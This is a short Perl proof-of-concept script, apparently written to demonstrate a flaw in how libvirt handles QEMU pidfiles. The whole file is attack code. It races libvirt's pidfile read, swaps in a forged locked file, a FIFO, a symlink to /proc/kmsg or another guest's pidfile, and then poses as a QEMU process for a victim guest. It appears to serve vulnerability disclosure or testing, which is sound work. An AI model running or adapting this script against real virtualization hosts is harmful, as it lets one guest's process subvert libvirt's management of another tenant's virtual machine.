#!/usr/bin/perl
# What a process of QEMU's user can do to libvirt's pidfile of another guest, without a capability.
#
#   attack.pl KIND PIDFILE UUID [OWN-PIDFILE]
#
# Waits until libvirt has read the pidfile: libvirt itself fails otherwise, and viommu has nothing to answer for. Then it puts
# something else in its place, and lives until it is killed, under a command line that names the guest.
use strict;
use warnings;
use Fcntl qw(F_SETLK F_WRLCK SEEK_SET);
use POSIX qw(mkfifo);
$^F = 255;
my ($kind, $pidfile, $uuid, $own) = @ARGV;
my $made = "$pidfile.$$";
if ($kind eq 'lock') {
    # As libvirt's child does: fcntl, the first byte, then the number.
    open(my $file, '>', $made) or die "$made: $!";
    my $lock = pack('s s x4 q q i x4', F_WRLCK, SEEK_SET, 0, 1, 0);
    fcntl($file, F_SETLK, $lock) or die "lock: $!";
    syswrite($file, $$);
} elsif ($kind eq 'genuine') {
    # root's own file, locked by the QEMU of another guest.
    $made = $own;
} elsif ($kind eq 'fifo') {
    mkfifo($made, 0666) or die "mkfifo: $!";
} elsif ($kind eq 'link') {
    symlink('/proc/kmsg', $made) or die "symlink: $!";
}
select(undef, undef, undef, 0.005) until -s $pidfile;
select(undef, undef, undef, 0.02);
rename($made, $pidfile) or die "rename: $!";
# QEMU's name and arguments; the descriptor with the lock stays.
exec { '/bin/bash' } 'qemu-system-x86_64', '-c', 'while :; do sleep 1; done', 'qemu', '-name', 'guest=victim', '-uuid', $uuid;
